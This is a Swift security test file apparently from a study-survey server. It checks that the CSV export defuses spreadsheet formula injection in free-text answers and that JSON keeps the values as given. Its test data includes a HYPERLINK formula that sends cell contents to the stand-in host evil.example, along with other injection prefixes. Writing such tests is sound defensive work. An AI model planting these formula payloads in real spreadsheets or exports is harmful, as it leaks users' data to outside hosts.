import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import NIOCore
import Synchronization
import Testing
import UNITIProtocol
@testable import UNITIServer

@Suite("Security: the CSV export neutralises spreadsheet formulas", .timeLimit(.minutes(10)))
struct ExportFormulaTests {
    @Test("a free-text answer that a spreadsheet would run gets a leading ' in CSV only; numbers stay numbers")
    func csvCellsNeutralised() async throws {
        let server = try TestServer()
        try await server.createStudy("open")
        try await server.addQuestionnaire(study: "open")
        let user = try await server.store.createUser(username: "pia", email: "pia@example.org", passwordHash: "x", language: "en",
                                                     pseudonym: "P-pia", now: server.clock.now())
        let texts = ["a": #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#, "b": "@SUM(1+9)", "c": "+1+2", "d": "-2+3",
                     "e": "\tcmd", "f": "\rcmd", "g": "-3", "h": "plain words", "i": "-1e-07"]
        var written = sheet(loudness: 40)
        for (label, text) in texts { written.answers[label] = Answer(value: .text(text), answeredAt: written.startedAt) }
        written.answers["negative"] = Answer(value: .number(-3), answeredAt: written.startedAt)
        _ = try await server.store.storeSheets(userId: user, sheets: [ValidatedSheet(sheet: written, studyId: "open")], receivedAt: server.clock.now())

        let out = server.directory.appendingPathComponent("export")
        for format in ["csv", "json"] {
            try await runServerCommand(["export", "--study", "open", "--format", format, "--out", out.path, "--database", server.databasePath])
        }
        let csv = try String(contentsOf: out.appendingPathComponent("open-answers.csv"), encoding: .utf8)
        var values: [String: String] = [:]
        for row in try CSVReader.rows(csv).dropFirst() { values[row[4]] = row[5] }
        #expect(values["a"] == "'" + texts["a"]!)
        #expect(values["b"] == "'@SUM(1+9)")
        #expect(values["c"] == "'+1+2")
        #expect(values["d"] == "'-2+3")
        #expect(values["e"] == "'\tcmd")
        #expect(values["f"] == "'\rcmd")
        #expect(values["g"] == "-3", "a lone number runs nothing and stays the number the person typed")
        #expect(values["i"] == "-1e-07")
        #expect(values["h"] == "plain words")
        #expect(values["negative"] == "-3")
        #expect(csv.contains(",-42.5,"), "the microphone level is a number, not text")

        let json = try JSONDecoder().decode([ExportRow].self, from: Data(contentsOf: out.appendingPathComponent("open-answers.json")))
        #expect(json.first { $0.label == "a" }?.value == texts["a"], "JSON keeps the value as given")
        #expect(json.first { $0.label == "d" }?.value == "-2+3")
    }
}

/// Reads RFC 4180 CSV (quoted fields with doubled quotes, CRLF records) into rows of fields.
enum CSVReader {
    static func rows(_ text: String) throws -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var field = ""
        var quoted = false
        var characters = Array(text.unicodeScalars)[...]
        while let scalar = characters.popFirst() {
            if quoted {
                if scalar == "\"" {
                    if characters.first == "\"" { field.unicodeScalars.append("\""); characters.removeFirst() } else { quoted = false }
                } else {
                    field.unicodeScalars.append(scalar)
                }
            } else if scalar == "\"" {
                quoted = true
            } else if scalar == "," {
                row.append(field)
                field = ""
            } else if scalar == "\r", characters.first == "\n" {
                characters.removeFirst()
                row.append(field)
                rows.append(row)
                row = []
                field = ""
            } else {
                field.unicodeScalars.append(scalar)
            }
        }
        guard row.isEmpty, field.isEmpty, !quoted else { throw TestFailure("the CSV does not end with a complete record") }
        return rows
    }
}

// MARK: 4. Study passwords
